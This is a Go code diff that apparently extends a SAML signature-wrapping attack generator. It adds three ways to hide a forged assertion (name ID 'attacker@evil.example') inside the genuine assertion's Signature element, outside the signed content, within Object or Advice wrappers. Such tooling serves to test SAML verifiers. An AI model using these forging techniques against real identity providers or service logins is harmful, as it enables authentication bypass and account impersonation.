@@ -596,7 +596,7 @@ func (c *AttackCtx) forge(root *etree.Element, op Op) *etree.Element {
 		nameID = "attacker@evil.example"
 	}
 	fa := c.forgedAssertion(id, nameID)
-	variant := op.C % 8
+	variant := op.C % 11
 	switch {
 	case gen == nil || gen.Parent() == nil:
 		root.AddChild(fa)
@@ -633,6 +633,29 @@ func (c *AttackCtx) forge(root *etree.Element, op Op) *etree.Element {
 			fa.InsertChildAt(1, sc)
 		}
 		p.InsertChildAt(idx, fa)
+	case variant >= 8: // forged parked inside the genuine assertion's ds:Signature (outside SignedInfo: not
+		// covered by the enveloped signature), wrapped in an Advice / Object / Extensions holder
+		if sg := findTag(gen, "Signature"); sg != nil && sg.Parent() == gen {
+			var holder *etree.Element
+			switch variant {
+			case 8:
+				obj := sg.CreateElement("Object")
+				obj.Space = sg.Space
+				holder = mk("fa", "Advice")
+				declNS(holder, "fa", NSAssertion)
+				obj.AddChild(holder)
+			case 9:
+				holder = mk("fa", "Advice")
+				declNS(holder, "fa", NSAssertion)
+				sg.AddChild(holder)
+			default:
+				holder = sg.CreateElement("Object")
+				holder.Space = sg.Space
+			}
+			holder.AddChild(fa)
+		} else {
+			root.AddChild(fa)
+		}
 	case variant == 6: // first child of root
 		root.InsertChildAt(0, fa)
 	default:
